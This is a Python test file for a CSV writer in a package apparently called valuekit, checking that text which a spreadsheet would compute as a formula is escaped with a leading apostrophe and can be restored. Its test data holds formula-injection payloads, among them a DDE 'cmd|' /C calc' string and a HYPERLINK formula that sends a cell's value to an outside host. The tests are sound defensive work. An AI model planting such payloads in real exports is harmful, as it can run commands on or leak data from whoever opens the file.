"""No text of a table can be computed by a spreadsheet, and the text can be had back."""

import csv

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from valuekit.frames.formulas import guarded, is_formula, unguarded
from valuekit.frames.schemas import EXCEPTIONS, STATEMENT
from valuekit.frames.write import write_csv

DANGEROUS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "  =1+1",
    "\u3000=1+1",
    "\u00a0＝1",
    "\ufeff=1",
    "\u200b=1",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    "\0x",
    "-",
    '=HYPERLINK("http://example.invalid?"&A1,"click")',
)
HARMLESS = ("", "CARD-01", "007", "a=b", "'tis", "1-1", "_=1", "（=1）", "一般纳税人-增值税", "2025-01")

hostile_texts = st.text(st.sampled_from("=+-@＝＋－＠'\t\r\n \u3000\ufeffA1"), max_size=8) | st.text(
    max_size=8
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_computes_gets_an_apostrophe(text):
    assert guarded(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_all_other_text_stays_as_it_is(text):
    assert guarded(text) == text


@given(hostile_texts)
def test_what_was_guarded_can_be_had_back(text):
    assert unguarded(guarded(text)) == text


@given(hostile_texts)
def test_nothing_written_begins_a_formula(text):
    written = guarded(text)
    assert written.startswith("'") or not is_formula(written)


@given(hostile_texts, hostile_texts)
def test_two_texts_never_become_one(one, other):
    assert (guarded(one) == guarded(other)) == (one == other)


def test_text_is_guarded_and_amounts_stay_numbers(tmp_path):
    """A product code that is a formula, with a negative amount."""
    frame = pd.DataFrame(
        {
            "kind": ["unmatched"] * len(DANGEROUS),
            "key": DANGEROUS,
            "detail": ["-"] * len(DANGEROUS),
            "lines": [1] * len(DANGEROUS),
            "currency": ["CNY"] * len(DANGEROUS),
            "amount_minor": [-105] * len(DANGEROUS),
        }
    )
    write_csv(frame, tmp_path / "exceptions.csv", EXCEPTIONS)
    with (tmp_path / "exceptions.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["key"] for row in rows] == ["'" + text for text in DANGEROUS]
    assert [unguarded(row["key"]) for row in rows] == list(DANGEROUS)
    assert {row["amount"] for row in rows} == {"-1.05"}
    assert {row["lines"] for row in rows} == {"1"}


def test_dimensions_and_headers_of_the_users_own_are_guarded(tmp_path):
    """A statement by a column that the ledger's owner named, over values that the owner chose."""
    amounts = {column.name: [-5] for column in STATEMENT.columns if column.name.endswith("_minor")}
    frame = pd.DataFrame(
        {"currency": ["CNY"], "=cmd()": ["@x"], "carrier": ["card"], "evidence": ["direct"]}
        | {"treatment": ["gross"]}
        | amounts
    )
    write_csv(frame, tmp_path / "statement.csv", STATEMENT)
    header, row = (tmp_path / "statement.csv").read_text(encoding="utf-8").splitlines()
    assert header.split(",")[1] == "'=cmd()"
    assert row.split(",")[1] == "'@x"
    assert row.split(",")[-1] == "-0.05"
    assert row.count("'") == 1


def test_a_carriage_return_begins_no_row_of_its_own(tmp_path):
    frame = pd.DataFrame(
        {"kind": ["x\r=1+1"], "key": ["y\n=1"], "detail": ['a"b,c'], "lines": [1]}
        | {"currency": ["CNY"], "amount_minor": [-105]}
    )
    write_csv(frame, tmp_path / "exceptions.csv", EXCEPTIONS)
    assert (tmp_path / "exceptions.csv").read_bytes().decode() == (
        'kind,key,detail,lines,currency,amount\n"x\r=1+1","y\n=1","a""b,c",1,CNY,-1.05\n'
    )
